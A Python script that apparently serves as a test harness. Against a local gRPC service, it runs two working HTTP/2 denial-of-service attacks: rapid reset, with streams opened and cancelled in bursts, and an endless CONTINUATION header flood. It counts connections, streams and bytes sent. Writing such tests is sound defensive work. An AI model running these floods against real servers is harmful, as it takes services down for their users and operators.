"""What a hostile caller with a good certificate sends, for some seconds; a process of its own, so that it slows down
nothing but its target. Prints how often it did what, as JSON.

    flood.py rapid_reset PORT CA CERTIFICATE KEY SECONDS
"""

import collections
import contextlib
import json
import ssl
import sys
import time

import http2

PATH = "/seuil.v1.EvaluationService/Evaluate"
BURST = 20
LATE_SECONDS = 0.002
# An EvaluateRequest: grid "cloe", objective job "acheteur", result level "B1".
QUESTION = b'\n\x04cloe\x1a\n\n\x08acheteur"\x04\n\x02B1'


class Attacker(http2.Peer):
    """One connection whose settings were sent; what comes back is thrown away."""

    def __init__(self, port, context):
        super().__init__(("127.0.0.1", port), tls=context)
        self.open_settings()

    def send(self, bytes_):
        """False where the other side has closed."""
        try:
            super().send(bytes_)
            timeout = self.socket.gettimeout()
            self.socket.settimeout(0)
            try:
                while self.socket.recv(1 << 16):
                    pass
                return False
            except (ssl.SSLWantReadError, BlockingIOError):
                return True
            finally:
                self.socket.settimeout(timeout)
        except OSError:
            return False


def rapid_reset(connect, until, done):
    """Calls that are taken back at once. Those whose request never comes are what gRPC 1.51 keeps; whole ones reach
    a handler."""
    block, request = http2.header_block(PATH, "https"), http2.message(QUESTION)

    def opened(first, whole):
        return [http2.frame(http2.HEADERS, http2.END_HEADERS, stream, block)
                + (http2.frame(http2.DATA, http2.END_STREAM, stream, request) if whole else b"")
                for stream in range(first, first + 2 * BURST, 2)]

    def taken_back(first):
        return [http2.frame(http2.RST_STREAM, 0, stream, b"\0\0\0\x08")
                for stream in range(first, first + 2 * BURST, 2)]

    def bursts(whole, late):
        for first in range(1, 4_000 if late else 100_000, 2 * BURST):
            begun, ended = opened(first, whole), taken_back(first)
            yield [b"".join(begun), b"".join(ended)] if late else [b"".join(map(b"".join, zip(begun, ended)))]

    # At once, and so late that a proxy has passed them on.
    kinds = [list(bursts(whole, late)) for whole in (False, True) for late in (False, True)]
    while time.monotonic() < until:
        with contextlib.suppress(OSError), connect() as connection:
            done["connections"] += 1
            for burst in kinds[done["connections"] % len(kinds)]:
                for part in burst:
                    if not connection.send(part) or time.monotonic() > until:
                        raise ConnectionResetError
                    if len(burst) > 1:
                        time.sleep(LATE_SECONDS)
                done["streams"] += BURST


def endless_continuation(connect, until, done):
    """Headers that never end: ever more fields, or one field that never comes to an end."""
    fields = http2.field("x-a", "b" * 50) * 200
    endless = http2.unfinished_field("x-a")
    while time.monotonic() < until:
        with contextlib.suppress(OSError), connect() as connection:
            done["connections"] += 1
            of_one = done["connections"] % 2 == 0
            connection.send(http2.frame(http2.HEADERS, http2.END_STREAM, 1,
                                        http2.header_block(PATH, "https") + (endless if of_one else b"")))
            more = http2.frame(http2.CONTINUATION, 0, 1, b"c" * len(fields) if of_one else fields)
            while time.monotonic() < until:
                if not connection.send(more):
                    done["closed"] += 1
                    break
                done["bytes"] += len(more)


def main():
    kind, port, authority, certificate, key, seconds = sys.argv[1:]
    context = http2.context(authority, certificate, key)
    done = collections.Counter()
    attack = {"rapid_reset": rapid_reset, "endless_continuation": endless_continuation}[kind]
    attack(lambda: Attacker(int(port), context), time.monotonic() + float(seconds), done)
    print(json.dumps(done))


if __name__ == "__main__":
    main()
